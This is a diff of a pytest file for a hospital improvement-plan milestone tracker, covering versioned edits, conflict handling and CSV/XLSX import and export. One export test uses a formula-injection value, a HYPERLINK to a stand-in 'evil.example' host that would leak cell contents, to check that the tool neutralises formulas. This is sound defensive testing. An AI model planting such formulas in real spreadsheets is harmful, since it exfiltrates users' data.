@@ -20,11 +20,11 @@ from analysis.store import get_engine
 
 
 @pytest.fixture
-def engine(fresh_store: str):  # noqa: ANN201
+def engine(fresh_store: str):
     return get_engine(fresh_store)
 
 
-def _add(engine, **over) -> str:  # noqa: ANN001
+def _add(engine, **over) -> str:
     values = {
         "area": "Patient Safety",
         "milestone": "72-hour follow-up after discharge",
@@ -40,7 +40,7 @@ def _add(engine, **over) -> str:  # noqa: ANN001
     )
 
 
-def test_add_then_update_keeps_every_change_in_the_history(engine) -> None:  # noqa: ANN001
+def test_add_then_update_keeps_every_change_in_the_history(engine) -> None:
     mid = _add(engine)
     assert mid == "M001"
     v = plan_store.update_milestone(
@@ -76,7 +76,7 @@ def test_add_then_update_keeps_every_change_in_the_history(engine) -> None:  # n
     assert len(plan_store.load_history(mid, engine=engine)) == 3
 
 
-def test_a_conflicting_edit_is_refused_naming_who_changed_it_and_when(engine) -> None:  # noqa: ANN001
+def test_a_conflicting_edit_is_refused_naming_who_changed_it_and_when(engine) -> None:
     mid = _add(engine)
     plan_store.update_milestone(
         mid,
@@ -101,7 +101,7 @@ def test_a_conflicting_edit_is_refused_naming_who_changed_it_and_when(engine) ->
     assert "complete" not in plan_store.load_history(mid, engine=engine)["new_value"].tolist()
 
 
-def test_apply_edits_saves_the_good_ones_and_reports_conflicts_and_bad_values(engine) -> None:  # noqa: ANN001
+def test_apply_edits_saves_the_good_ones_and_reports_conflicts_and_bad_values(engine) -> None:
     a, b, c = _add(engine), _add(engine, milestone="Carer training"), _add(engine, milestone="FTSU")
     plan_store.update_milestone(
         b, {"owner": "Chief Nurse"}, expected_version=1, by="Chief Nurse", engine=engine
@@ -137,13 +137,13 @@ def test_apply_edits_saves_the_good_ones_and_reports_conflicts_and_bad_values(en
         ({"version": 3}, "cannot be edited"),
     ],
 )
-def test_bad_values_are_refused_with_a_reason(engine, changes: dict, message: str) -> None:  # noqa: ANN001
+def test_bad_values_are_refused_with_a_reason(engine, changes: dict, message: str) -> None:
     mid = _add(engine)
     with pytest.raises(ValidationError, match=message):
         plan_store.update_milestone(mid, changes, expected_version=1, by="x", engine=engine)
 
 
-def test_update_of_a_missing_milestone_and_anonymous_edits_are_refused(engine) -> None:  # noqa: ANN001
+def test_update_of_a_missing_milestone_and_anonymous_edits_are_refused(engine) -> None:
     with pytest.raises(MilestoneNotFound):
         plan_store.update_milestone(
             "M404", {"status": "complete"}, expected_version=1, by="x", engine=engine
@@ -157,7 +157,7 @@ def test_update_of_a_missing_milestone_and_anonymous_edits_are_refused(engine) -
         plan_store.add_milestone({"milestone": "No area"}, by="x", engine=engine)
 
 
-def test_due_date_can_be_cleared_and_parsed_in_uk_format(engine) -> None:  # noqa: ANN001
+def test_due_date_can_be_cleared_and_parsed_in_uk_format(engine) -> None:
     mid = _add(engine)
     plan_store.update_milestone(
         mid, {"due_date": "30/06/2025"}, expected_version=1, by="x", engine=engine
@@ -192,7 +192,7 @@ def test_diff_edits_finds_only_changed_editable_cells() -> None:
     assert set(edits[0].changes) == {"status", "due_date"}
 
 
-def test_demo_plan_loads_once_and_is_consistent(engine) -> None:  # noqa: ANN001
+def test_demo_plan_loads_once_and_is_consistent(engine) -> None:
     assert plan_store.ensure_demo_plan(engine) == 30
     assert plan_store.ensure_demo_plan(engine) == 0
     ms = plan_store.load_milestones(engine)
@@ -227,7 +227,7 @@ CSV = (
 )
 
 
-def test_import_keeps_good_rows_and_reports_bad_ones_by_row_number(engine) -> None:  # noqa: ANN001
+def test_import_keeps_good_rows_and_reports_bad_ones_by_row_number(engine) -> None:
     _add(engine)
     result = plan_io.import_milestones(
         CSV.encode("utf-8"), "plan.csv", by="Plan office", engine=engine
@@ -250,7 +250,7 @@ def test_import_keeps_good_rows_and_reports_bad_ones_by_row_number(engine) -> No
     assert "Plan office" in hist["changed_by"].tolist() and "milestone" in hist["field"].tolist()
 
 
-def test_import_refuses_a_stale_version_and_files_without_required_columns(engine) -> None:  # noqa: ANN001
+def test_import_refuses_a_stale_version_and_files_without_required_columns(engine) -> None:
     mid = _add(engine)
     plan_store.update_milestone(
         mid, {"status": "at risk"}, expected_version=1, by="Chief Nurse", engine=engine
@@ -264,7 +264,7 @@ def test_import_refuses_a_stale_version_and_files_without_required_columns(engin
         plan_io.import_milestones(b"\x89PNG\r\n\x1a\nxxxx", "plan.csv", by="x", engine=engine)
 
 
-def test_import_reads_xlsx(engine) -> None:  # noqa: ANN001
+def test_import_reads_xlsx(engine) -> None:
     buf = io.BytesIO()
     pd.DataFrame(
         {
@@ -280,7 +280,7 @@ def test_import_reads_xlsx(engine) -> None:  # noqa: ANN001
     assert (row["status"], row["due_date"]) == ("complete", pd.Timestamp("2025-01-31"))
 
 
-def test_export_neutralises_formulas_and_round_trips(engine) -> None:  # noqa: ANN001
+def test_export_neutralises_formulas_and_round_trips(engine) -> None:
     _add(engine, milestone='=HYPERLINK("http://evil.example/?"&A1)', owner="@SUM(1+1)")
     data = plan_io.export_csv(engine)
     text = data.decode("utf-8-sig")
@@ -324,13 +324,13 @@ def test_diff_edits_ignores_representation_changes() -> None:
     [(b"", "empty"), (b"\x00\x01\x02\x03" * 100, "binary"), (b"area;milestone\n", "status")],
     ids=["empty", "binary", "no-status-column"],
 )
-def test_import_refuses_unusable_files_with_a_message(engine, data: bytes, message: str) -> None:  # noqa: ANN001
+def test_import_refuses_unusable_files_with_a_message(engine, data: bytes, message: str) -> None:
     with pytest.raises(ValidationError, match=message):
         plan_io.import_milestones(data, "plan.csv", by="x", engine=engine)
     assert plan_store.load_milestones(engine).empty  # nothing half-imported
 
 
-def test_import_of_windows_1252_text_and_hostile_values_keeps_them_as_text(engine) -> None:  # noqa: ANN001
+def test_import_of_windows_1252_text_and_hostile_values_keeps_them_as_text(engine) -> None:
     csv = (
         "area,milestone,status,owner,evidence\n"
         "Culture,Carers\u2019 caf\u00e9 every month,on track,Head of Patient Experience,"
@@ -344,7 +344,7 @@ def test_import_of_windows_1252_text_and_hostile_values_keeps_them_as_text(engin
     assert "'=HYPERLINK" in plan_io.export_csv(engine).decode("utf-8-sig")
 
 
-def test_import_header_only_adds_nothing(engine) -> None:  # noqa: ANN001
+def test_import_header_only_adds_nothing(engine) -> None:
     result = plan_io.import_milestones(
         b"area,milestone,status\n", "plan.csv", by="x", engine=engine
     )
